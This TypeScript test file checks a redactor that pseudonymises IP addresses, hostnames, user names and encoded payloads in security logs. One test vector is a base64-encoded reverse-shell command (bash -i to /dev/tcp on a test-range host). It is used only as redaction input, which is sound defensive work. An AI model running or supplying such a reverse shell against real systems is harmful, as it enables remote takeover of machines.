import { Buffer } from 'node:buffer'
import t from 'tap'
import { Pseudonyms } from '../../../harness/redaction/pseudonyms.ts'
import { createTextRedactor } from '../../../harness/redaction/redact-text.ts'

const names = {
  hosts: new Set(['fileserver01', 'web.corp.test', 'web']),
  users: new Set(['alice', 'J. Okafor, head of security']),
}

function redactor(key = Buffer.alloc(32, 1)) {
  const pseudonyms = new Pseudonyms(key)
  return { pseudonyms, ...createTextRedactor(pseudonyms, names, ['198.18.0.5']) }
}

const ip4 = 'ip4-[0-9a-f]{10}'
const host = 'host-[0-9a-f]{10}'

t.test('addresses, names and what hides them are replaced; other text is not', async (t) => {
  const vectors: [string, RegExp | string][] = [
    ['198.18.0.5', new RegExp(`^${ip4}$`)],
    ['tcp 198.18.0.5:40000 > 10.0.0.1:443', new RegExp(`^tcp ${ip4}:40000 > ${ip4}:443$`)],
    ['198.18.0.0/20', new RegExp(`^${ip4}/20$`)],
    ['It ends with 198.18.0.5.', new RegExp(`^It ends with ${ip4}\\.$`)],
    ['5.0.18.198.in-addr.arpa', new RegExp(`^${ip4}\\.in-addr\\.arpa$`)],
    ['/dev/tcp/198.18.0.5/80', new RegExp(`^/dev/tcp/${ip4}/80$`)],
    ['fd54::10', /^ip6-\w{10}$/],
    ['[fd54::10]:443', /^\[ip6-\w{10}\]:443$/],
    ['fd54::10:40000', /^ip6-\w{10}:40000$/],
    ['fe80::1%eth0', /^ip6-\w{10}%eth0$/],
    ['02:54:00:00:00:1c', /^mac-\w{10}$/],
    ['02-54-00-00-00-1C', /^mac-\w{10}$/],
    ['3323068421 0xc6120005 050012c6', new RegExp(`^${ip4} ${ip4} ${ip4}$`)],
    ['http://web.corp.test:80/x', new RegExp(`^http://${host}:80/x$`)],
    ['WEB and alice-fileserver01.', new RegExp(`^${host} and user-\\w{10}-${host}\\.$`)],
    ['allowed by J. Okafor, head of security.', /^allowed by user-\w{10}\.$/],
    ['bob@mail.corp.test', /^user-\w{10}$/],
    ['1:IcZrEDNbF9OByD6yhMcr+QRSits=', /^flow-\w{10}$/],
    [
      `echo ${Buffer.from('bash -i >& /dev/tcp/198.18.0.5/4444').toString('base64')} | base64 -d`,
      /^echo payload-\w{10} \| base64 -d$/,
    ],
    [Buffer.from('connect 198.18.0.5 4444', 'utf16le').toString('base64'), /^payload-\w{10}$/],
    [Buffer.from('GET http://198.18.0.5/').toString('hex'), /^payload-\w{10}$/],
    ...[
      'Suricata 7.0.10, kernel 6.1.0-18',
      'RFC 1122 §3.2.1.3 and section 3.2.1.3',
      '1.3.6.1.4.1.311',
      '12:34:56',
      'Foo::bar and std::cout',
      'alicent, webs and prefileserver01',
      `SHA-256 ${'0123456789abcdef'.repeat(4)}`,
      '999.1.1.1',
    ].map((text): [string, string] => [text, text]),
  ]
  for (const [text, expected] of vectors) {
    const { all } = redactor()
    const once = all(text)
    if (typeof expected === 'string') t.equal(once, expected, text)
    else t.match(once, expected, text)
    t.equal(all(once), once, 'redacted again it stays the same')
  }
})

t.test('one value has one token, however it is written, and another key gives another', async (t) => {
  const { all, pseudonyms } = redactor()
  const same = [
    ['fd54:0:0:0:0:0:0:10', 'fd54::10', 'FD54::0010'],
    ['02:54:00:00:00:1c', '02-54-00-00-00-1C'],
    ['198.18.0.5', '3323068421', '0xC6120005'],
    ['Alice', 'alice', 'ALICE'],
  ]
  for (const group of same) t.equal(new Set(group.map(all)).size, 1, group.join(' '))
  t.not(all('198.18.0.5'), all('198.18.0.6'))
  t.not(redactor(Buffer.alloc(32, 2)).all('198.18.0.5'), all('198.18.0.5'))
  t.match(
    pseudonyms.replaced().map(({ kind, values }) => [kind, values]),
    [
      ['ipv4', 2],
      ['ipv6', 1],
      ['mac', 1],
      ['user', 1],
    ],
  )
})

t.test('a leak is told', async (t) => {
  const { all, leak } = redactor()
  const text = all('from 198.18.0.5')
  t.equal(leak(text), null)
  t.equal(leak('a template with 127.0.0.1'), null, 'it was never in the record')
  t.equal(leak('from 198.18.0.5'), '198.18.0.5')
})
